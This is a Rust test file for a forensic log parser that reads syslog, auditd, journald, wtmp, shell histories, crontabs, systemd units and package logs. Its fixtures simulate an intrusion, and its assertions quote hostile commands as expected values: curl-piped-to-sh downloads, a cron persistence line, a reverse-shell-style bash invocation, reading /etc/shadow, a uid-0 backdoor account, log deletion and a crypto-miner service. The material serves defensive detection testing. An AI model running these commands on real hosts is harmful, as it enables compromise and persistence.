//! What the readers of host logs make of their fixtures: syslog of Linux programs, auditd, journald, wtmp, shell history, jobs,
//! packages, Docker.

#![allow(clippy::unwrap_used)]

mod common;

use abate_model::LossKind::{Malformed, NotSupported, Truncated};
use abate_model::rows::{AuthOutcome, ProcessChange};
use abate_model::{Body, Locator, ZoneCertainty};
use common::{Source, fixture};

macro_rules! body {
    ($source:expr, $n:expr, $variant:ident) => {
        match $source.bodies()[$n] {
            Body::$variant(body) => body,
            other => panic!("row {} is {other:?}", $n),
        }
    };
}

fn time(source: &Source, n: usize) -> String {
    source.times()[n].clone().unwrap_or_default()
}

/// service, user, outcome, attempts of an authentication row
fn auth(source: &Source, n: usize) -> (String, Option<String>, AuthOutcome, u32) {
    let auth = body!(source, n, Auth);
    (auth.service.to_string(), auth.user.as_deref().map(str::to_owned), auth.outcome, auth.attempts)
}

fn signed(service: &str, user: &str, outcome: AuthOutcome) -> (String, Option<String>, AuthOutcome, u32) {
    (service.to_owned(), (!user.is_empty()).then(|| user.to_owned()), outcome, 1)
}

#[test]
fn syslog_sudo() {
    let s = fixture("syslog", "linux");
    assert_eq!((s.rows.len(), s.losses()), (30, vec![]));
    let run = body!(s, 0, Process);
    assert_eq!((run.command.as_ref(), run.exe.as_deref()), ("/usr/bin/cat /etc/shadow ; USER=x", Some("/usr/bin/cat")));
    assert_eq!((run.name.as_deref(), run.cwd.as_deref(), run.tty.as_deref()), (Some("cat"), Some("/home/alice"), Some("pts/0")));
    assert_eq!((run.user.as_deref(), run.login_user.as_deref(), run.success), (Some("root"), Some("alice"), Some(true)));
    assert_eq!((run.program.as_deref(), run.host.as_deref(), run.change), (Some("sudo"), Some("web1"), ProcessChange::Launch));
    assert_eq!(time(&s, 0), "2026-11-20T00:01:10Z");
    let wrong = body!(s, 1, Auth);
    assert_eq!((wrong.outcome, wrong.attempts, wrong.user.as_deref()), (AuthOutcome::Failure, 3, Some("bob")));
    assert!(wrong.message.contains("COMMAND=/bin/bash"));
    assert_eq!(auth(&s, 2), signed("sudo", "bob", AuthOutcome::Failure));
    assert_eq!(auth(&s, 3), signed("sudo", "root", AuthOutcome::Other));
    // sudo tells of the same attempt itself.
    assert_eq!(auth(&s, 4), signed("sudo", "bob", AuthOutcome::Other));
    assert_eq!(body!(s, 4, Auth).method.as_deref(), Some("pam_unix"));
}

#[test]
fn syslog_accounts() {
    let s = fixture("syslog", "linux");
    let made = body!(s, 5, Account);
    assert_eq!((made.change.as_ref(), made.user.as_deref(), made.uid.as_deref()), ("created", Some("toor"), Some("0")));
    assert_eq!((made.home.as_deref(), made.shell.as_deref(), made.pid), (Some("/root"), Some("/bin/bash"), Some(50)));
    assert_eq!((made.program.as_deref(), made.group.as_deref()), (Some("useradd"), None));
    let what = |n: usize| {
        let change = body!(s, n, Account);
        let text = |text: &Option<std::borrow::Cow<'_, str>>| text.as_deref().unwrap_or("").to_owned();
        format!("{} {} {} {}", change.change, text(&change.user), text(&change.group), text(&change.actor))
    };
    let all: Vec<String> = (6..14).map(what).collect();
    let want = [
        "created  toor ",
        "group-added toor sudo ",
        "changed toor sudo ",
        "deleted toor  ",
        "password alice  ",
        "password bob  ",
        "locked bob  ",
        "group-added alice docker root",
    ];
    assert_eq!(all, want);
    assert_eq!(body!(s, 29, Text).program.as_deref(), Some("useradd"));
}

#[test]
fn syslog_jobs() {
    let s = fixture("syslog", "linux");
    let run = body!(s, 14, Job);
    assert_eq!((run.change.as_ref(), run.user.as_deref(), run.pid), ("run", Some("root"), Some(60)));
    assert_eq!(run.command, "cd / && run-parts --report /etc/cron.hourly");
    assert_eq!(body!(s, 15, Text).message, "(alice) BEGIN EDIT (alice)");
    let edit = body!(s, 16, Job);
    assert_eq!((edit.change.as_ref(), edit.user.as_deref(), edit.program.as_deref()), ("changed", Some("alice"), Some("crontab")));
    let reload = body!(s, 17, Job);
    assert_eq!((reload.change.as_ref(), reload.user.as_deref(), reload.file.as_deref()), ("changed", None, Some("/etc/cron.d/x")));
    assert_eq!(body!(s, 18, Job).name.as_deref(), Some("cron.daily"));
    assert_eq!(body!(s, 19, Job).command, "/etc/cron.hourly/0anacron");
}

#[test]
fn syslog_sessions() {
    use AuthOutcome::{Failure, Other, Success};
    let s = fixture("syslog", "linux");
    let all: Vec<_> = (20..28).map(|n| auth(&s, n)).collect();
    let want = [
        signed("systemd-logind", "alice", Other),
        signed("systemd-logind", "", Other),
        signed("su", "root", Success),
        signed("su", "root", Failure),
        signed("login", "root", Failure),
        signed("vsftpd", "bob", Failure),
        signed("systemd", "alice", Other),
        signed("su", "cyrus", Other),
    ];
    assert_eq!(all, want);
    assert_eq!(body!(s, 25, Auth).source.unwrap().to_string(), "203.0.113.9");
    assert_eq!(body!(s, 28, Text).message, "System is rebooting.");
}

#[test]
fn audit_commands_and_files() {
    let s = fixture("audit", "raw");
    assert_eq!((s.rows.len(), s.losses()), (15, vec![(Malformed, 1), (Malformed, 1)]), "{:?}", s.end.losses);
    // Events that are over come first; those that might still have got records come at the end.
    let of = |n: u64| s.rows.iter().position(|r| String::from_utf8_lossy(&r.1).contains(&format!(":{n})"))).unwrap();
    let run = body!(s, of(501), Process);
    assert_eq!(run.command, "bash -c curl http://198.51.100.7/x | sh");
    assert_eq!((run.exe.as_deref(), run.name.as_deref(), run.cwd.as_deref()), (Some("/usr/bin/bash"), Some("bash"), Some("/tmp/a b")));
    assert_eq!((run.pid, run.parent_pid, run.tty.as_deref(), run.success), (Some(4001), Some(4000), Some("pts0"), Some(true)));
    assert_eq!((run.user.as_deref(), run.login_user.as_deref(), run.tag.as_deref()), (Some("root"), Some("alice"), Some("root,exec")));
    assert_eq!(time(&s, of(501)), "2025-11-20T01:01:10.123Z");
    assert_eq!(s.rows[of(501)].1.iter().filter(|b| **b == b'\n').count(), 5, "six records");
    let made = body!(s, of(502), File);
    assert_eq!((made.change.as_ref(), made.path.as_ref(), made.mode.as_deref()), ("created", "/etc/cron.d/x", Some("0100644")));
    assert_eq!((made.user.as_deref(), made.process.as_deref(), made.tag.as_deref()), (Some("alice"), Some("/usr/bin/bash"), Some("cron")));
    let gone = body!(s, of(503), File);
    assert_eq!((gone.change.as_ref(), gone.path.as_ref(), gone.host.as_deref()), ("deleted", "/var/log/auth.log", Some("web2")));
    assert_eq!((gone.user.as_deref(), gone.tag.as_deref(), gone.pid), (Some("33"), None, Some(4003)));
    let sudo = body!(s, of(508), Process);
    assert_eq!(
        (sudo.command.as_ref(), sudo.cwd.as_deref(), sudo.login_user.as_deref()),
        ("cat /etc/shadow", Some("/home/alice"), Some("alice"))
    );
    assert_eq!((sudo.parent.as_deref(), sudo.tty.as_deref(), sudo.success), (Some("/usr/bin/sudo"), Some("pts/0"), Some(true)));
    assert_eq!(body!(s, of(515), Process).command, "whoami");
    let stop = body!(s, of(513), Event);
    assert_eq!((stop.code.as_deref(), stop.record, stop.channel.as_deref()), (Some("SERVICE_STOP"), Some(513), Some("audit")));
    assert!(stop.data.as_deref().unwrap().contains(r#""unit":"auditd""#));
    assert!(body!(s, of(514), Event).message.as_deref().unwrap().contains("data=id\r"));
}

#[test]
fn audit_sign_ins_and_accounts() {
    use AuthOutcome::{Failure, Other, Success};
    let s = fixture("audit", "raw");
    let of = |n: u64| s.rows.iter().position(|r| String::from_utf8_lossy(&r.1).contains(&format!(":{n})"))).unwrap();
    assert_eq!(auth(&s, of(504)), signed("sshd", "root", Failure));
    assert_eq!(body!(s, of(504), Auth).source.unwrap().to_string(), "203.0.113.9");
    // The same refused connection: its attempt is counted already.
    assert_eq!(auth(&s, of(505)), signed("sshd", "", Other));
    assert!(body!(s, of(505), Auth).unknown_user);
    assert_eq!(auth(&s, of(506)), signed("sshd", "alice", Success));
    assert_eq!(auth(&s, of(507)), signed("sudo", "alice", Success));
    let made = body!(s, of(509), Account);
    assert_eq!((made.change.as_ref(), made.user.as_deref(), made.uid.as_deref()), ("created", Some("toor"), Some("1002")));
    assert_eq!((made.actor.as_deref(), made.program.as_deref(), made.pid), (Some("alice"), Some("useradd"), Some(5003)));
    let joined = body!(s, of(510), Account);
    assert_eq!((joined.change.as_ref(), joined.user.as_deref(), joined.group.as_deref()), ("group-added", Some("toor"), Some("wheel")));
    assert_eq!(body!(s, of(511), Event).code.as_deref(), Some("ADD_USER"), "nothing was changed");
    assert_eq!(body!(s, of(512), Account).change, "password");
}

#[test]
fn audit_as_ausearch_shows_it() {
    let s = fixture("audit", "interpreted");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![]));
    let run = body!(s, 0, Process);
    assert_eq!((run.command.as_ref(), run.cwd.as_deref()), ("bash -c X=1 id; ls -l", Some("/home/alice/my files")));
    assert_eq!((run.user.as_deref(), run.login_user.as_deref(), run.tag.as_deref()), (Some("root"), Some("alice"), Some("exec")));
    assert_eq!((time(&s, 0).as_str(), s.rows[0].0.zone), ("2025-11-20T01:01:10.123Z", ZoneCertainty::Assumed));
    assert_eq!(auth(&s, 1), signed("sshd", "alice", AuthOutcome::Success));
    assert_eq!(body!(s, 2, Process).success, Some(false));
    assert_eq!(s.rows[2].0.zone, ZoneCertainty::Stated);
}

#[test]
fn audit_with_a_prefix() {
    let s = fixture("audit", "prefixed");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![]));
    let of = |n: u64| s.rows.iter().position(|r| String::from_utf8_lossy(&r.1).contains(&format!(":{n})"))).unwrap();
    let failed = body!(s, of(701), Process);
    assert_eq!((failed.command.as_ref(), failed.success, failed.host.as_deref()), ("/usr/local/bin/wget", Some(false), Some("web1")));
    assert_eq!(body!(s, of(702), Event).code.as_deref(), Some("AVC"));
    let shell = body!(s, of(703), Process);
    assert_eq!((shell.command.as_ref(), shell.user.as_deref()), ("bash -c \"{echo,x}|{bash,-i}\"", Some("tomcat")));
    // What stands between the records is read as syslog.
    assert!(s.bodies().iter().any(|b| matches!(b, Body::Process(p) if p.command == "/bin/id" && p.user.as_deref() == Some("root"))));
}

#[test]
fn audit_events_that_stand_between_one_another_are_joined_and_do_not_pile_up() {
    let mut text = String::new();
    for n in 0..500 {
        text += &format!("type=SYSCALL msg=audit(1763600470.000:{n}): arch=c000003e syscall=59 success=yes pid={n} comm=\"x\"\n");
        if n > 0 {
            text += &format!("type=EXECVE msg=audit(1763600470.000:{}): argc=1 a0=\"x{}\"\n", n - 1, n - 1);
        }
    }
    let s = common::single("a", text.as_bytes());
    assert_eq!((s.rows.len(), s.losses()), (500, vec![]));
    let commands: Vec<_> = (0..499).map(|n| body!(s, n, Process).command.to_string()).collect();
    assert!(commands.iter().enumerate().all(|(n, c)| *c == format!("x{n}")));
    for (row, raw) in &s.rows {
        let span = String::from_utf8_lossy(&text.as_bytes()[common::span(row.locator)]).into_owned();
        assert!(String::from_utf8_lossy(raw).lines().all(|line| span.contains(line)), "every record lies within the row's place");
    }
}

#[test]
fn journald() {
    let s = fixture("journald", "export");
    assert_eq!((s.rows.len(), s.losses()), (7, vec![(Malformed, 2), (Malformed, 1)]), "{:?}", s.end.losses);
    assert_eq!(auth(&s, 0), signed("sshd", "root", AuthOutcome::Failure));
    assert_eq!((body!(s, 0, Auth).pid, time(&s, 0).as_str()), (Some(2001), "2025-11-20T01:01:10.123456Z"));
    assert!(s.rows.iter().all(|r| r.0.zone == ZoneCertainty::Stated));
    let sudo = body!(s, 1, Process);
    assert_eq!((sudo.command.as_ref(), sudo.login_user.as_deref(), sudo.host.as_deref()), ("/usr/bin/id", Some("alice"), Some("web1")));
    assert_eq!((body!(s, 2, Job).command.as_ref(), body!(s, 2, Job).pid), ("run-parts /etc/cron.hourly", Some(77)));
    let bytes = body!(s, 3, Text);
    assert_eq!((bytes.program.as_deref(), bytes.message.as_ref()), (Some("app"), "caf\u{fffd}\u{1b}["));
    assert_eq!(body!(s, 4, Account).user.as_deref(), Some("toor"));
    assert_eq!(body!(s, 5, Text).message, "");
    assert_eq!(auth(&s, 6), signed("sshd", "1000", AuthOutcome::Success));
}

#[test]
fn journal_in_its_export_format() {
    let s = fixture("journal-export", "entries");
    assert_eq!((s.rows.len(), s.losses()), (7, vec![(Malformed, 1), (Malformed, 1)]), "{:?}", s.end.losses);
    assert_eq!(auth(&s, 0), signed("sshd", "root", AuthOutcome::Failure));
    assert_eq!((body!(s, 0, Auth).pid, time(&s, 0).as_str()), (Some(2001), "2025-11-20T01:01:10.123456Z"));
    assert_eq!(body!(s, 0, Auth).host.as_deref(), Some("web1"));
    // An empty line inside a binary field ends nothing.
    let bytes = body!(s, 1, Text);
    assert_eq!((bytes.program.as_deref(), bytes.message.as_ref()), (Some("app"), "caf\u{fffd}\n\nno end"));
    assert_eq!((body!(s, 2, Job).command.as_ref(), body!(s, 2, Job).pid), ("run-parts /etc/cron.hourly", Some(77)));
    assert_eq!(body!(s, 3, Account).user.as_deref(), Some("toor"));
    assert_eq!(auth(&s, 4), signed("sshd", "1000", AuthOutcome::Success));
    assert_eq!((body!(s, 5, Auth).message.as_ref(), auth(&s, 6)), ("", signed("sshd", "alice", AuthOutcome::Success)));
    // The last entry lacks its empty line. Cut off in front of its words it is no entry any more.
    let bytes = include_bytes!("../fixtures/journal-export/entries.in");
    let words = bytes.windows(8).rposition(|w| w == b"MESSAGE=").unwrap();
    for cut in [words, words + 20] {
        let s = common::single("x", &bytes[..cut]);
        assert_eq!((s.rows.len(), s.losses().last().copied()), (6, Some((Truncated, 1))), "{cut}");
    }
}

#[test]
fn login_records() {
    use AuthOutcome::{Failure, Other, Success};
    let s = fixture("utmp", "wtmp");
    assert_eq!((s.rows.len(), s.losses()), (20, vec![(Malformed, 1), (Truncated, 1)]), "{:?}", s.end.losses);
    let all: Vec<_> = (0..9).map(|n| auth(&s, n)).collect();
    let want = [
        signed("login", "", Other),
        signed("login", "", Other),
        signed("login", "", Other),
        signed("login", "alice", Success),
        signed("login", "bob", Success),
        signed("login", "", Other),
        signed("sshd", "root", Failure),
        signed("login", "UNKNOWN", Failure),
        signed("login", "", Other),
    ];
    assert_eq!(all, want);
    let source = |n: usize| body!(s, n, Auth).source.map(|a| a.to_string());
    assert_eq!((source(3).as_deref(), source(4).as_deref(), source(5)), (Some("203.0.113.9"), Some("2001:db8::9"), None));
    assert_eq!(
        (body!(s, 3, Auth).pid, body!(s, 3, Auth).message.as_ref()),
        (Some(2001), "USER_PROCESS line=pts/0 user=alice host=203.0.113.9")
    );
    assert!(body!(s, 7, Auth).unknown_user);
    assert_eq!((time(&s, 0).as_str(), time(&s, 3).as_str()), ("2025-11-20T01:01:10.123456Z", "2025-11-20T01:01:13.000005Z"));
    // The ninth record is unused space; the one after it has no time.
    assert_eq!((s.rows[7].0.locator, s.rows[8].0.locator, s.rows[8].0.at), (Locator::Record { n: 7 }, Locator::Record { n: 9 }, None));
    let arm = fixture("utmp", "arm");
    assert_eq!((arm.rows.len(), arm.losses()), (2, vec![]));
    assert_eq!(auth(&arm, 1), signed("login", "alice", Success));
    assert_eq!(
        (time(&arm, 1).as_str(), body!(arm, 1, Auth).source.unwrap().to_string()),
        ("2025-11-20T01:01:13.000005Z", "203.0.113.9".to_owned())
    );
}

#[test]
fn last_sign_ins() {
    let s = fixture("lastlog", "lastlog");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![]));
    assert_eq!((auth(&s, 0), auth(&s, 1)), (signed("login", "0", AuthOutcome::Success), signed("login", "4", AuthOutcome::Success)));
    assert_eq!((body!(s, 0, Auth).source.unwrap().to_string(), s.rows[1].0.locator), ("203.0.113.9".to_owned(), Locator::Record { n: 4 }));
    assert_eq!(time(&s, 1), "2025-11-20T01:01:15Z");
}

/// time, program and command of each row of a history
fn commands(source: &Source) -> Vec<(String, String, String)> {
    let row = |n: usize| {
        let run = body!(source, n, Process);
        (time(source, n), run.program.as_deref().unwrap().to_owned(), run.command.to_string())
    };
    (0..source.rows.len()).map(row).collect()
}

fn typed(time: &str, program: &str, command: &str) -> (String, String, String) {
    (time.to_owned(), program.to_owned(), command.to_owned())
}

#[test]
fn shell_histories() {
    let s = fixture("shell-history", "bash");
    assert_eq!(s.losses(), [(Malformed, 1)], "a time without a command");
    let want = [
        typed("2025-11-20T01:01:10Z", "bash", "sudo curl -s http://198.51.100.7/x -o /tmp/x"),
        typed("2025-11-20T01:01:11Z", "bash", "for i in 1 2\ndo echo $i\ndone"),
        typed("2025-11-20T01:01:13Z", "bash", "/tmp/x --pool 203.0.113.9"),
    ];
    assert_eq!(commands(&s), want);
    assert_eq!((body!(s, 2, Process).exe.as_deref(), body!(s, 2, Process).name.as_deref()), (Some("/tmp/x"), Some("x")));
    let s = fixture("shell-history", "zsh");
    assert_eq!(s.losses(), [(Malformed, 1)]);
    let want = [
        typed("2025-11-20T01:01:10Z", "zsh", "ls -la"),
        typed("2025-11-20T01:01:11Z", "zsh", "cat <<X \n  one\nX"),
        typed("2025-11-20T01:01:12Z", "zsh", "echo 日本"),
        typed("", "shell", ": 1763600473:5"),
    ];
    assert_eq!(commands(&s), want);
    let s = fixture("shell-history", "fish");
    assert_eq!(s.losses(), [(Malformed, 1)]);
    let want = [
        typed("2025-11-20T01:01:10Z", "fish", "git clone https://example.com/x"),
        typed("2025-11-20T01:01:11Z", "fish", "echo a\nb \\"),
        typed("", "fish", "no time"),
    ];
    assert_eq!(commands(&s), want);
    let s = fixture("shell-history", "plain");
    assert_eq!((s.rows.len(), s.losses(), s.rows[0].0.at), (8, vec![], None));
    assert_eq!(body!(s, 7, Process).command, "xmrig --version");
}

#[test]
fn text_that_only_looks_like_a_history_is_left_alone() {
    for text in [
        "#!/bin/sh\ncd /tmp\nls\nrm x\ncp a b\n",
        "cd a\nif true\nthen\nls\nfi\nrm x\ncp a b\n",
        "make it so\nfind your way\nthe cat sat\nhead of state\nless is more\n",
        "# 1763600470\nHello\n",
        "1 2 3 4 5 6\n2 3 4 5 6 7\n",
        "[Unit]\nDescription=x\n",
    ] {
        assert_eq!(common::single("x", text.as_bytes()).end.format, None, "{text}");
    }
}

/// schedule, user and command of each job
fn jobs(source: &Source) -> Vec<(String, String, String)> {
    let text = |text: &Option<std::borrow::Cow<'_, str>>| text.as_deref().unwrap_or("").to_owned();
    let row = |n: usize| {
        let job = body!(source, n, Job);
        assert_eq!((job.change.as_ref(), source.rows[n].0.at), ("defined", None));
        (text(&job.schedule), text(&job.user), job.command.to_string())
    };
    (0..source.rows.len()).map(row).collect()
}

#[test]
fn tables_of_jobs() {
    let s = fixture("crontab", "user");
    assert_eq!(s.losses(), [(Malformed, 2)]);
    let want = [
        typed("*/5 * * * *", "", "curl -fsSL http://198.51.100.7/i.sh | sh"),
        typed("0 3 1,15 jan-jun Mon-Fri", "", "/usr/local/bin/backup --to 203.0.113.9"),
        typed("@reboot", "", "/tmp/.x/run >/dev/null 2>&1"),
    ];
    assert_eq!(jobs(&s), want);
    let s = fixture("crontab", "system");
    assert_eq!(s.losses(), []);
    let want = [
        typed("17 *\t* * *", "root", "cd / && run-parts --report /etc/cron.hourly"),
        typed("*/10 * * * *", "www-data", "[ -x /usr/bin/php ] && php -f /srv/cron.php"),
        typed("0 0 * * *", "alice", "/opt/a.sh"),
        typed("0 1 * * *", "", "nice /opt/b.sh"),
        typed("1\t5", "", "nice run-parts /etc/cron.daily"),
    ];
    assert_eq!(jobs(&s), want);
    assert_eq!(body!(s, 4, Job).name.as_deref(), Some("cron.daily"));
}

#[test]
fn systemd_units() {
    let s = fixture("systemd-unit", "timer");
    assert_eq!(s.losses(), []);
    assert_eq!(jobs(&s), [typed("OnBootSec=5min ; OnCalendar=*-*-* 6,18:00", "", "fetch.service")]);
    assert_eq!(body!(s, 0, Job).name.as_deref(), Some("Fetch things"));
    let s = fixture("systemd-unit", "cat");
    assert_eq!(s.losses(), [(NotSupported, 1), (Malformed, 1)], "{:?}", s.end.losses);
    let want = [
        typed("", "www-data", "/bin/mkdir -p /tmp/.x ; /tmp/.x/run --pool 203.0.113.9      --threads 8"),
        typed("", "", "/usr/bin/curl http://198.51.100.7/"),
    ];
    assert_eq!(jobs(&s), want);
    let miner = body!(s, 0, Job);
    assert_eq!((miner.name.as_deref(), miner.file.as_deref()), (Some("miner.service"), Some("/etc/systemd/system/miner.service")));
}

/// time, program and words of each row
fn texts(source: &Source) -> Vec<(String, String, String)> {
    let row = |n: usize| {
        let text = body!(source, n, Text);
        (time(source, n), text.program.as_deref().unwrap_or("").to_owned(), text.message.to_string())
    };
    (0..source.rows.len()).map(row).collect()
}

#[test]
fn package_managers() {
    let s = fixture("packages", "dpkg");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    assert_eq!(texts(&s)[1], typed("2025-11-20T01:01:11Z", "dpkg", "install nmap:amd64 <none> 7.93-1"));
    assert_eq!(s.rows[0].0.zone, ZoneCertainty::Assumed);
    let s = fixture("packages", "apt");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![(Malformed, 1)]));
    let install = &texts(&s)[0];
    assert_eq!((install.0.as_str(), install.1.as_str()), ("2025-11-20T01:01:10Z", "apt"));
    assert!(install.2.contains("Commandline: apt-get install -y nmap\nRequested-By: alice (1000)"));
    let s = fixture("packages", "yum");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    assert_eq!(texts(&s)[1], typed("2026-11-02T01:01:11Z", "yum", "Updated: 1:glibc-2.17.x86_64"));
    let s = fixture("packages", "dnf");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![]));
    assert_eq!(texts(&s)[1], typed("2025-11-19T16:01:11Z", "dnf", "DDEBUG Command: dnf install nmap"));
    assert!(texts(&s)[2].2.ends_with("nmap      x86_64         7.93-1"));
}

#[test]
fn container_output() {
    let s = fixture("container", "docker");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1), (Malformed, 1), (Malformed, 1)]), "{:?}", s.end.losses);
    assert_eq!((body!(s, 0, Text).message.as_ref(), time(&s, 0).as_str()), ("Listening on 8080", "2025-11-20T01:01:10.123456789Z"));
    let get = body!(s, 1, Http);
    assert_eq!((get.target.as_ref(), get.status, get.user_agent.as_deref()), ("/a?b=1", Some(200), Some("curl/8")));
    assert_eq!((body!(s, 2, Text).message.as_ref(), time(&s, 2).as_str()), ("oops", "2025-11-19T16:01:12Z"));
    let s = fixture("container", "kubernetes");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    assert_eq!(body!(s, 1, Http).status, Some(404));
    assert_eq!(body!(s, 2, Text).message, "part of a li");
}

#[test]
fn last_sign_ins_where_only_high_numbers_signed_in() {
    // Number 1000 is the first that a person gets: more zeros lie in front of it than are looked at.
    let entry = [&1_795_136_470_u32.to_le_bytes()[..], b"pts/0", &[0; 27], b"203.0.113.9", &[0; 245]].concat();
    assert_eq!(entry.len(), 292);
    let log = [vec![0; 292 * 1000], entry.clone()].concat();
    let s = common::single("x", &log);
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("lastlog"), 1, vec![]), "{}", s.end.recognised_by);
    assert_eq!((auth(&s, 0), s.rows[0].0.locator), (signed("login", "1000", AuthOutcome::Success), Locator::Record { n: 1000 }));
    // Fewer zeros could be unused login records too, whose size differs.
    let s = common::single("x", &[vec![0; 292 * 3], entry].concat());
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("lastlog"), 1, vec![]), "{}", s.end.recognised_by);
    // Zeros alone are nobody's sign-in, and other content behind them is not taken for one.
    let s = common::single("x", &vec![0; 100_000]);
    assert_eq!((s.rows.len(), s.losses()), (0, vec![(abate_model::LossKind::Empty, 1)]));
    let s = common::single("x", &[vec![0; 292 * 1000], vec![7; 5000]].concat());
    assert_eq!((s.rows.len(), s.losses()), (0, vec![(abate_model::LossKind::NotRecognised, 1)]));
    assert_eq!(s.end.losses[0].bytes, 5000);
}
